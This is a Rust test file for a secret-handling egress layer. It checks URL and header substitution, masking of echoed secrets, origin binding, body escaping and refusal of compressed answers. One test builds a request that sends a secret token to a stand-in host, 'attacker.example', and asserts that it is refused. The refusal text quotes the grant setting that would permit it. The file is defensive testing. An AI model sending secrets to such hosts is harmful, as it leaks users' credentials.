//! Secrets go in at the door, to where they may go, and do not come back.

use super::support::*;
use crate::egress::OriginPattern;
use crate::secrets::{Secret, Secrets};

fn secrets(value: &str) -> Secrets {
    let mut secrets = Secrets::default();
    secrets.insert("token", Secret::new(value), None);
    secrets
}

#[tokio::test]
async fn a_secret_is_put_into_url_and_headers_and_masked_in_what_comes_back() {
    let sink = Sink::start(|parts, body| {
        let mut echo = answer(
            200,
            &format!("{} {:?} {}", parts.uri, parts.headers["x-key"], String::from_utf8_lossy(body)),
        );
        echo.headers_mut().insert("x-echo", parts.headers["x-key"].clone());
        echo
    })
    .await;
    let value = "T00/B00?s3cr3t key";
    let (context, marker) =
        context_with(grants(&[&sink.origin()], false), &secrets(value), "${secret:token}");
    let url = sink.url(&format!("/services/{marker}?key={marker}"));
    let response = plain_door().send(&context, post(url, &[("x-key", &marker)], "b")).await.unwrap();
    let (parts, _) = sink.seen().remove(0);
    assert_eq!(parts.uri, "/services/T00/B00%3Fs3cr3t%20key?key=T00%2FB00%3Fs3cr3t%20key");
    assert_eq!(parts.headers["x-key"], value);
    assert_eq!(String::from_utf8(response.body).unwrap(), "/services/***?key=*** \"***\" b");
    assert!(response.headers.contains(&("x-echo".to_owned(), b"***".to_vec())));
}

#[tokio::test]
async fn a_secret_is_not_put_into_a_request_to_just_anywhere() {
    let (context, marker) =
        context_with(grants(&["https://*"], false), &secrets("s3cr3t"), "${secret:token}");
    let request = post("https://attacker.example/", &[("authorization", &marker)], "");
    let refusal = refused(&plain_door(), &context, request).await;
    assert_eq!(
        refusal,
        (
            "egress.secret-origin",
            "the secret \"token\" is not for https://attacker.example: a secret goes only to origins granted by name; to \
             allow it, put into the channel's section: grants = { http = [\"https://*\", \"https://attacker.example\"] }"
                .to_owned()
        )
    );
}

#[tokio::test]
async fn a_secret_that_is_bound_goes_to_its_own_origins_only() {
    let mut secrets = Secrets::default();
    let bound = vec![OriginPattern::parse("https://api.example.org").unwrap()];
    secrets.insert("token", Secret::new("s3cr3t"), Some(bound));
    let granted = grants(&["https://api.example.org", "https://other.example"], false);
    let (context, marker) = context_with(granted, &secrets, "Bearer ${secret:token}");
    let request = post("https://other.example/", &[("authorization", &marker)], "");
    let refusal = refused(&plain_door(), &context, request).await;
    let text = "the secret \"token\" is bound to https://api.example.org and is not put into a request to https://other.example";
    assert_eq!(refusal, ("egress.secret-origin", text.to_owned()));
}

#[tokio::test]
async fn a_secret_stays_out_of_hosts_bodies_and_broken_headers() {
    let granted = || grants(&["https://a.example", "https://*"], false);
    let (context, marker) = context_with(granted(), &secrets("s3cr3t"), "${secret:token}");
    let (code, text) = refused(&plain_door(), &context, get(format!("https://{marker}.example/"))).await;
    assert_eq!(code, "egress.invalid");
    assert!(text.starts_with("a secret can't stand for a URL's host"), "{text}");
    let refusal = refused(&plain_door(), &context, post("https://a.example/", &[], &marker)).await;
    assert_eq!(
        refusal,
        (
            "egress.secret-in-body",
            "the secret \"token\" stands in the request's body, and this plugin's manifest does not ask for secrets \
             there; use it in the URL or a header"
                .to_owned()
        )
    );
    let (context, marker) = context_with(granted(), &secrets("s3cr3t\n"), "${secret:token}");
    let (code, text) =
        refused(&plain_door(), &context, post("https://a.example/", &[("x-key", &marker)], "")).await;
    assert_eq!(code, "egress.invalid");
    assert!(text.starts_with("the secret \"token\" holds a line break or NUL"), "{text}");
    assert!(!text.contains("s3cr3t"));
}

#[tokio::test]
async fn a_body_takes_secrets_escaped_for_its_type_where_the_manifest_asks() {
    let sink = Sink::start(|_, _| answer(200, "")).await;
    let mut secrets = secrets("a\"b&c");
    secrets.allow_in_body();
    let (context, marker) = context_with(grants(&[&sink.origin()], false), &secrets, "${secret:token}");
    for (kind, wanted) in [
        ("application/json; charset=utf-8", "k=a\\\"b&c"),
        ("application/problem+json", "k=a\\\"b&c"),
        ("application/x-www-form-urlencoded", "k=a%22b%26c"),
        ("text/plain", "k=a\"b&c"),
    ] {
        let request = post(sink.url("/"), &[("content-type", kind)], &format!("k={marker}"));
        plain_door().send(&context, request).await.unwrap();
        let (_, body) = sink.seen().pop().unwrap();
        assert_eq!(String::from_utf8(body).unwrap(), wanted);
    }
}

#[tokio::test]
async fn a_compressed_answer_is_refused_because_it_could_hide_a_secret() {
    let sink = Sink::start(|_, _| {
        let mut answer = answer(200, "..");
        answer.headers_mut().insert("content-encoding", "gzip".parse().unwrap());
        answer
    })
    .await;
    let (context, _) = context_with(grants(&[&sink.origin()], false), &secrets("s3cr3t"), "");
    let (code, text) = refused(&plain_door(), &context, get(sink.url("/"))).await;
    assert_eq!(code, "egress.protocol");
    assert!(text.ends_with("compressed its answer unasked, so it can't be searched for secrets"), "{text}");
}
